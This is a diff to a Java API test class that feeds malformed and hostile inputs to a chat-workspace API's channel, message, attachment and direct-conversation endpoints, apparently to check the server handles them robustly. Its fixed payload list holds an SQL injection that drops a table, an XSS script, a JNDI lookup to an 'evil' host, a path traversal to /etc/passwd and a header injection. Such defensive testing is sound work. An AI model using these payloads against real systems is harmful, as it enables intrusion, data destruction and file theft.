@@ -25,7 +25,7 @@ class HostileInputTest extends ApiTest {
     private static final String[] NASTY_STRINGS = {
             "' OR '1'='1'; DROP TABLE users; --", "<script>alert(1)</script>", "${jndi:ldap://evil/x}",
             "\u0000\u0001\u0002", "🙂🙃".repeat(300), "../../../../etc/passwd", "%00%0d%0aSet-Cookie: x=y",
-            "a".repeat(70_000), "１２３", "-1", "1e309", "NaN"
+            "a".repeat(70_000), "p".repeat(100), "１２３", "-1", "1e309", "NaN"
     };
 
     /** A route the server serves: method and path template, e.g. {@code GET /api/v1/files/{id}}. */
@@ -84,6 +84,19 @@ class HostileInputTest extends ApiTest {
             Http.Response invite = http.post("/api/v1/workspaces/" + workspaceId + "/invites").token(owner.token()).send();
             values.put("invites/{id}", invite.text("/data/id"));
             values.put("invites/{token}", invite.text("/data/token"));
+            String general = workspace.text("/data/default_channel_id");
+            values.put("channels/{channel_id}", general);
+            String file = upload(owner.token(), "hostile.txt", "x".getBytes(java.nio.charset.StandardCharsets.UTF_8)).text("/data/id");
+            values.put("message-attachments/{attachment_id}", http.post("/api/v1/workspaces/" + workspaceId + "/channels/"
+                    + general + "/messages").token(owner.token()).json(Map.of("attachment_ids", List.of(file))).send()
+                    .text("/data/attachments/0/id"));
+            String conversation = http.post("/api/v1/direct-conversations").token(owner.token())
+                    .json(Map.of("participant_user_id", target.id())).send().text("/data/id");
+            values.put("direct-conversations/{conversation_id}", conversation);
+            String directFile = upload(owner.token(), "hostile.txt", "y".getBytes(java.nio.charset.StandardCharsets.UTF_8)).text("/data/id");
+            values.put("direct-message-attachments/{attachment_id}", http.post("/api/v1/direct-conversations/" + conversation
+                    + "/messages").token(owner.token()).json(Map.of("attachment_ids", List.of(directFile))).send()
+                    .text("/data/attachments/0/id"));
         }
         return values;
     }
@@ -112,7 +125,8 @@ class HostileInputTest extends ApiTest {
         Map<String, Object> wrongTypes = new LinkedHashMap<>();
         for (String field : new String[] {"name", "email", "password", "password_confirmation", "current_password",
                 "preferred_language", "device_name", "avatar_url", "abilities", "expires_in_days", "is_active", "plan",
-                "q", "page", "per_page", "slug", "visibility", "role", "user_id"}) {
+                "q", "page", "per_page", "slug", "visibility", "role", "user_id", "content", "type", "attachment_ids",
+                "parent_message_id", "skip_translation", "participant_user_id", "limit", "before", "after"}) {
             wrongTypes.put(field, Map.of("nested", List.of(1, 2, Map.of())));
         }
         bodies.add(Http.JSON.writeValueAsString(wrongTypes));
@@ -121,10 +135,14 @@ class HostileInputTest extends ApiTest {
         for (String nasty : NASTY_STRINGS) {
             Map<String, Object> body = new LinkedHashMap<>();
             for (String field : new String[] {"name", "email", "password", "password_confirmation", "current_password",
-                    "preferred_language", "device_name", "avatar_url", "plan", "q", "slug", "visibility", "role"}) {
+                    "preferred_language", "device_name", "avatar_url", "plan", "q", "slug", "visibility", "role",
+                    "content", "type", "parent_message_id"}) {
                 body.put(field, nasty);
             }
             body.put("user_id", nasty);
+            body.put("participant_user_id", nasty);
+            body.put("attachment_ids", List.of(nasty));
+            body.put("skip_translation", nasty);
             body.put("abilities", List.of(nasty));
             body.put("expires_in_days", nasty);
             body.put("is_active", nasty);
